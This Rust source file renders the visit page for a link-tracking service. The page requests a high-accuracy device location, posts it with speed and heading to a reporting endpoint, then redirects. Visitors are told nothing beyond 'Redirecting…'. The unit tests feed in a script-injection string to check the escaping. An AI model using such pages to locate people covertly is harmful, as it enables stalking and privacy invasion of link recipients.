//! Visit page
//!
//! Served to browsers following a tracking link. The page asks for the
//! device position, reports it to `/api/update-location` and then moves on
//! to the target URL. Declining, an error or a timeout all go straight to
//! the target.

use serde::Serialize;

/// What a client needs to finish a visit.
#[derive(Debug, Clone, Serialize)]
#[serde(rename_all = "camelCase")]
pub struct VisitResponse {
    pub link_id: String,
    pub access_id: String,
    pub target_url: String,
}

const TEMPLATE: &str = r#"<!doctype html>
<html lang="en">
<head>
<meta charset="utf-8">
<meta name="viewport" content="width=device-width, initial-scale=1">
<meta name="referrer" content="no-referrer">
<title>Redirecting</title>
</head>
<body>
<p>Redirecting&hellip;</p>
<p><a href="__TARGET_HREF__">Continue</a></p>
<script>
(function () {
  var visit = __VISIT_JSON__;
  var done = false;
  function go() {
    if (done) return;
    done = true;
    window.location.replace(visit.targetUrl);
  }
  function report(position) {
    var c = position.coords;
    fetch("/api/update-location", {
      method: "POST",
      headers: { "Content-Type": "application/json" },
      keepalive: true,
      body: JSON.stringify({
        linkId: visit.linkId,
        accessId: visit.accessId,
        preciseLocation: {
          latitude: c.latitude,
          longitude: c.longitude,
          accuracy: c.accuracy,
          altitude: c.altitude,
          altitudeAccuracy: c.altitudeAccuracy,
          heading: c.heading,
          speed: c.speed,
          timestamp: Math.round(position.timestamp)
        }
      })
    }).then(go, go);
  }
  if (!navigator.geolocation) {
    go();
    return;
  }
  setTimeout(go, 10000);
  navigator.geolocation.getCurrentPosition(report, go, {
    enableHighAccuracy: true,
    timeout: 8000,
    maximumAge: 0
  });
})();
</script>
</body>
</html>
"#;

/// Render the visit page for one recorded visit.
pub fn render(visit: &VisitResponse) -> Result<String, serde_json::Error> {
    // `<` is escaped so no value can close the script element
    let json = serde_json::to_string(visit)?.replace('<', "\\u003c");
    Ok(TEMPLATE
        .replace("__TARGET_HREF__", &escape_attr(&visit.target_url))
        .replace("__VISIT_JSON__", &json))
}

fn escape_attr(value: &str) -> String {
    let mut out = String::with_capacity(value.len());
    for c in value.chars() {
        match c {
            '&' => out.push_str("&amp;"),
            '<' => out.push_str("&lt;"),
            '>' => out.push_str("&gt;"),
            '"' => out.push_str("&quot;"),
            '\'' => out.push_str("&#39;"),
            c => out.push(c),
        }
    }
    out
}

#[cfg(test)]
mod tests {
    use super::*;

    fn visit(target: &str) -> VisitResponse {
        VisitResponse {
            link_id: "link-1".into(),
            access_id: "access-1".into(),
            target_url: target.into(),
        }
    }

    #[test]
    fn test_page_carries_visit_ids() {
        let page = render(&visit("https://example.com/a?b=1&c=2")).unwrap();

        assert!(page.contains(r#""accessId":"access-1""#));
        assert!(page.contains(r#""linkId":"link-1""#));
        assert!(page.contains("/api/update-location"));
        assert!(page.contains(r#"href="https://example.com/a?b=1&amp;c=2""#));
    }

    #[test]
    fn test_target_cannot_close_script() {
        let page = render(&visit("https://example.com/</script><script>alert(1)</script>")).unwrap();

        assert_eq!(page.matches("</script>").count(), 1);
        assert!(!page.contains(r#"href="https://example.com/</script>"#));
    }

    #[test]
    fn test_escape_attr() {
        assert_eq!(escape_attr(r#"a"b'c<d>&"#), "a&quot;b&#39;c&lt;d&gt;&amp;");
        assert_eq!(escape_attr("plain"), "plain");
    }
}
